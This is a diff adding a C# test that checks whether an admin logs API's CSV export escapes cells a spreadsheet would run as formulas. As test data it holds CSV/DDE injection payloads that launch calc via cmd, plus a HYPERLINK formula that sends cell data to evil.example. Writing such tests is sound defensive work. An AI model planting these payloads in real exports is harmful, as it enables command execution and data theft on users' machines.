@@ -316,6 +316,38 @@ public sealed class LogsApiTests(LoggingFixture fixture) : IClassFixture<Logging
         Assert.Equal(tricky.RequestId, records[1][0]); // newest first
     }
 
+    [Fact]
+    public async Task Csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas()
+    {
+        var wallet = Guid.NewGuid();
+        var hostile = Events.Make(wallet, model: "=cmd|' /C calc'!A0") with
+        {
+            UserAgent = "@SUM(1+9)*cmd|' /C calc'!A0", RequestBody = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            ResponseBody = "+1+1", FinishReason = "-2+3", ErrorCode = "\t=1+1",
+        };
+        await fixture.SendAsync(hostile);
+        await fixture.WaitForWalletRowsAsync(wallet, 1);
+
+        using var request = new HttpRequestMessage(HttpMethod.Get, $"/admin/v1/logs?wallet_id={wallet}");
+        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
+        using var response = await fixture.Client.SendAsync(request);
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+
+        var records = Csv.Parse(await response.Content.ReadAsStringAsync());
+        var row = records.Single(r => r[0] == hostile.RequestId);
+        var column = (string name) => row[Array.IndexOf(CsvExportResult.Header, name)];
+        Assert.Equal("'" + hostile.Model, column("model"));
+        Assert.Equal("'" + hostile.UserAgent, column("user_agent"));
+        Assert.Equal("'" + hostile.RequestBody, column("request_body"));
+        Assert.Equal("'" + hostile.ResponseBody, column("response_body"));
+        Assert.Equal("'" + hostile.FinishReason, column("finish_reason"));
+        Assert.Equal("'" + hostile.ErrorCode, column("error_code"));
+        // The other cells are as before.
+        Assert.Equal(hostile.KeyId.ToString(), column("key_id"));
+        Assert.Equal("0.0015", column("cost_usd"));
+        Assert.Equal("12.5", column("latency_ms"));
+    }
+
     [Theory]
     [InlineData(null)]
     [InlineData("Bearer wrong-token")]
